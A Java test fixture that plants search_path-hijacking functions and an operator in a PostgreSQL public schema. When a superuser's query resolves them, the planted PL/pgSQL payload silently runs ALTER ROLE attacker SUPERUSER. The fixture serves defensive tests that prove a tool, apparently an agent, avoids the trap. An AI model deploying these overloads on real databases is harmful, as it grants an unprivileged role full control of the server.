package io.pgusers.attack;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import io.pgusers.testing.PgServer;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;

/**
 * Code an attacker plants in a schema it may write, as the attacker itself: overloads that PostgreSQL prefers
 * to pg_catalog's under the default search path, because their argument types match exactly. When one runs
 * in a superuser's session it makes the attacker a superuser (and says so in {@code public.pwned_log});
 * in an armed session ({@code SET pgusers_test.arming = on}) it raises {@code planted code ran} instead,
 * which is how a test proves the trap is set before it lets the agent near it.
 */
final class PlantedCode {
    static final String ARMED = "planted code ran";

    private PlantedCode() {
    }

    /** The trap's core, in the current database (the attacker's connection). */
    static void plantTrigger(Connection attackerSession, String attacker) throws SQLException {
        try (Statement s = attackerSession.createStatement()) {
            s.execute("CREATE TABLE IF NOT EXISTS public.pwned_log (at timestamptz DEFAULT now(), who name)");
            s.execute("GRANT INSERT ON public.pwned_log TO PUBLIC");
            s.execute("CREATE OR REPLACE FUNCTION public.pwned() RETURNS void LANGUAGE plpgsql AS $$\n"
                    + "BEGIN\n"
                    + "  IF pg_catalog.current_setting('pgusers_test.arming', true) = 'on' THEN\n"
                    + "    RAISE EXCEPTION '" + ARMED + "';\n"
                    + "  END IF;\n"
                    + "  INSERT INTO public.pwned_log (who) VALUES (current_user);\n"
                    + "  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN\n"
                    + "    EXECUTE pg_catalog.format('ALTER ROLE %I SUPERUSER', '" + attacker + "');\n"
                    + "  END IF;\n"
                    + "END $$");
        }
    }

    /** {@code public.cardinality(aclitem[])} and {@code public.to_jsonb(pg_auth_members)}: what check reads. */
    static void plantAclFunctions(Connection attackerSession, String attacker) throws SQLException {
        plantTrigger(attackerSession, attacker);
        try (Statement s = attackerSession.createStatement()) {
            s.execute("CREATE FUNCTION public.cardinality(aclitem[]) RETURNS int LANGUAGE plpgsql AS $$\n"
                    + "BEGIN PERFORM public.pwned(); RETURN pg_catalog.cardinality($1); END $$");
            s.execute("CREATE FUNCTION public.to_jsonb(pg_catalog.pg_auth_members) RETURNS jsonb LANGUAGE plpgsql AS $$\n"
                    + "BEGIN PERFORM public.pwned(); RETURN pg_catalog.to_jsonb($1); END $$");
        }
    }

    /** {@code OPERATOR public.= (name, varchar)}: what a role looked up by a bound name compares with. */
    static void plantNameOperator(Connection attackerSession, String attacker) throws SQLException {
        plantTrigger(attackerSession, attacker);
        try (Statement s = attackerSession.createStatement()) {
            s.execute("CREATE FUNCTION public.name_eq(name, varchar) RETURNS boolean LANGUAGE plpgsql AS $$\n"
                    + "BEGIN PERFORM public.pwned(); RETURN $1::text = $2::text; END $$");
            s.execute("CREATE OPERATOR public.= (LEFTARG = name, RIGHTARG = varchar, FUNCTION = public.name_eq)");
        }
    }

    /**
     * Proves the trap of {@link #plantAclFunctions} is set in {@code database}: a superuser session with the
     * default search path, armed, resolving {@code cardinality(aclitem[])} and {@code to_jsonb(pg_auth_members)}
     * as any unqualified query would, runs the attacker's code.
     */
    static void assertAclFunctionsArmed(String database) throws SQLException {
        assertArmed(database, "SELECT cardinality(NULL::aclitem[])");
        assertArmed(database, "SELECT to_jsonb(m) FROM pg_catalog.pg_auth_members m LIMIT 1",
                "SELECT to_jsonb(NULL::pg_catalog.pg_auth_members)");
    }

    /** As {@link #assertAclFunctionsArmed}, for {@code name = varchar} with a bound value, as pgjdbc sends it. */
    static void assertNameOperatorArmed(String database) throws SQLException {
        try (Connection c = armedSuperuser(database);
             PreparedStatement s = c.prepareStatement("SELECT 1 FROM pg_catalog.pg_roles WHERE rolname = ?")) {
            s.setString(1, "postgres");
            expectArmed(() -> s.executeQuery().close());
        }
    }

    private static void assertArmed(String database, String... queries) throws SQLException {
        for (String query : queries) {
            try (Connection c = armedSuperuser(database); Statement s = c.createStatement()) {
                try {
                    s.executeQuery(query).close();
                } catch (SQLException e) {
                    if (String.valueOf(e.getMessage()).contains(ARMED)) {
                        return;
                    }
                    throw e;
                }
            }
        }
        fail("the planted code was not chosen in database " + database + " by: " + String.join(" / ", queries));
    }

    private interface Query {
        void run() throws SQLException;
    }

    private static void expectArmed(Query query) throws SQLException {
        try {
            query.run();
        } catch (SQLException e) {
            assertTrue(String.valueOf(e.getMessage()).contains(ARMED), "the trap fired: " + e.getMessage());
            return;
        }
        fail("the planted operator was not chosen: the attack is not set up");
    }

    private static Connection armedSuperuser(String database) throws SQLException {
        Connection c = PgServer.shared().connectAsSuperuser(database);
        try (Statement s = c.createStatement()) {
            s.execute("SET pgusers_test.arming = on");
            // the server's default, as a session that sets nothing has it
            try (ResultSet rs = s.executeQuery("SHOW search_path")) {
                rs.next();
                assertEquals("\"$user\", public", rs.getString(1));
            }
        }
        return c;
    }

    /** The attacker is no superuser, and nothing it planted ran in a superuser's session. */
    static void assertNothingRan(String attacker, String... databases) throws SQLException {
        try (Connection c = PgServer.shared().connectAsSuperuser("postgres"); Statement s = c.createStatement();
             ResultSet rs = s.executeQuery("SELECT rolsuper FROM pg_roles WHERE rolname = '" + attacker + "'")) {
            assertTrue(rs.next(), "the attacker's role exists");
            assertFalse(rs.getBoolean(1), attacker + " became a superuser");
        }
        for (String database : databases) {
            try (Connection c = PgServer.shared().connectAsSuperuser(database); Statement s = c.createStatement();
                 ResultSet rs = s.executeQuery("SELECT count(*), string_agg(who::text, ', ') FROM public.pwned_log")) {
                rs.next();
                assertEquals(0, rs.getInt(1), "planted code ran in " + database + " as " + rs.getString(2));
            }
        }
    }

    /** Drops what {@link #plantTrigger} and the rest planted in the current database, as a superuser. */
    static void remove(Connection superuser) throws SQLException {
        try (Statement s = superuser.createStatement()) {
            s.execute("DROP OPERATOR IF EXISTS public.= (name, varchar)");
            s.execute("DROP FUNCTION IF EXISTS public.name_eq(name, varchar)");
            s.execute("DROP FUNCTION IF EXISTS public.cardinality(aclitem[])");
            s.execute("DROP FUNCTION IF EXISTS public.to_jsonb(pg_catalog.pg_auth_members)");
            s.execute("DROP FUNCTION IF EXISTS public.pwned()");
            s.execute("DROP TABLE IF EXISTS public.pwned_log");
        }
    }
}
